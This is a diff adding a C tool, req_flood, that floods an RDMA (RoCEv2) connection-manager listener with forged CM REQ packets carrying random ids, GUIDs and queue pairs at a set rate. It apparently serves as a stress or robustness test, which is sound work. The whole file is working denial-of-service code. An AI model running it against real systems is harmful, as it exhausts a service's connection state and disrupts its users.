@@ -1,0 +1,114 @@
+/* SPDX-License-Identifier: BSD-2-Clause */
+/*
+ * A flood of forged requests: REQs of connection management, each of another adapter, communication id and queue pair, from one
+ * address of this host to a listener that will never hear of their sender again. Prints how many it sent.
+ *
+ *	req_flood RATE SECONDS SOURCE DESTINATION PORT      IPv4; PORT is the listener's, of the port space TCP
+ */
+#include <arpa/inet.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "base/byteorder.h"
+#include "base/prng.h"
+#include "wire/bth.h"
+#include "wire/cm_msg.h"
+#include "wire/cm_req.h"
+#include "wire/deth.h"
+#include "wire/icrc.h"
+#include "wire/mad.h"
+
+enum { UDP_PORT = 4791, IP_LEN = 36, SPACE_TCP = 0x0106, PACKET_LEN = BTH_LEN + DETH_LEN + MAD_LEN + ICRC_LEN, TICK_US = 1000 };
+
+static struct flow flow = {.src = {[10] = 0xff, [11] = 0xff}, .dst = {[10] = 0xff, [11] = 0xff}, .dport = UDP_PORT};
+static uint16_t service_port;
+
+static double now_s(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static void forge(uint8_t *mad, struct prng *r)
+{
+	struct cm_req req = {.local_comm_id = (uint32_t)prng_next(r) | 1,
+			     .service_id = (uint64_t)SPACE_TCP << 16 | service_port,
+			     .ca_guid = prng_next(r),
+			     .qpn = (uint32_t)(2 + prng_next(r) % 0xfffff0),
+			     .remote_cm_timeout = 20,
+			     .local_cm_timeout = 18,
+			     .retry_count = 7,
+			     .pkey = 0xffff,
+			     .mtu = 3,
+			     .rnr_retry_count = 7,
+			     .max_cm_retries = 15,
+			     .primary = {.local_lid = 0xffff, .remote_lid = 0xffff, .hop_limit = 64, .ack_timeout = 17}};
+	struct mad h = {.base_version = MAD_BASE_VERSION,
+			.mgmt_class = CM_CLASS,
+			.class_version = CM_CLASS_VERSION,
+			.method = MAD_METHOD_SEND,
+			.tid = prng_next(r),
+			.attribute = CM_REQ};
+
+	memcpy(req.primary.local_gid, flow.src, 16);
+	memcpy(req.primary.remote_gid, flow.dst, 16);
+	req.private_data[1] = 0x40;
+	memcpy(req.private_data + 16, flow.src + 12, 4);
+	memcpy(req.private_data + 32, flow.dst + 12, 4);
+	memset(mad, 0, MAD_LEN);
+	mad_encode(mad, &h);
+	cm_req_encode(mad + MAD_HEADER_LEN, &req);
+}
+
+static void send_one(int fd, struct prng *r)
+{
+	uint8_t bytes[PACKET_LEN] = {0};
+	struct pkt p = {.data = bytes, .flow = &flow, .len = PACKET_LEN, .train = 1};
+
+	bth_encode(bytes, &(struct bth){.opcode = 0x64, .pkey = 0xffff, .dqpn = 1});
+	deth_encode(bytes + BTH_LEN, &(struct deth){.qkey = 0x80010000, .sqpn = 1});
+	forge(bytes + BTH_LEN + DETH_LEN, r);
+	icrc_seal(NULL, &p, 0);
+	(void)!send(fd, bytes, sizeof(bytes), 0);
+}
+
+int main(int argc, char **argv)
+{
+	struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET, .sin_port = htons(UDP_PORT)};
+	int fd = socket(AF_INET, SOCK_DGRAM, 0);
+	socklen_t len = sizeof(from);
+	struct prng r;
+	double begun = now_s(), rate, seconds;
+	unsigned long sent = 0;
+
+	if (argc != 6)
+		return 64;
+	rate = atof(argv[1]);
+	seconds = atof(argv[2]);
+	service_port = (uint16_t)atoi(argv[5]);
+	if (inet_pton(AF_INET, argv[3], &from.sin_addr) != 1 || inet_pton(AF_INET, argv[4], &to.sin_addr) != 1 ||
+	    bind(fd, (struct sockaddr *)&from, sizeof(from)) || connect(fd, (struct sockaddr *)&to, sizeof(to)) ||
+	    getsockname(fd, (struct sockaddr *)&from, &len)) {
+		perror("req_flood");
+		return 1;
+	}
+	memcpy(flow.src + 12, &from.sin_addr, 4);
+	memcpy(flow.dst + 12, &to.sin_addr, 4);
+	flow.sport = ntohs(from.sin_port);
+	prng_init(&r, (uint64_t)getpid());
+	while (now_s() - begun < seconds) {
+		while ((double)sent < (now_s() - begun) * rate) {
+			send_one(fd, &r);
+			sent++;
+		}
+		usleep(TICK_US);
+	}
+	printf("%lu sent\n", sent);
+	return 0;
+}
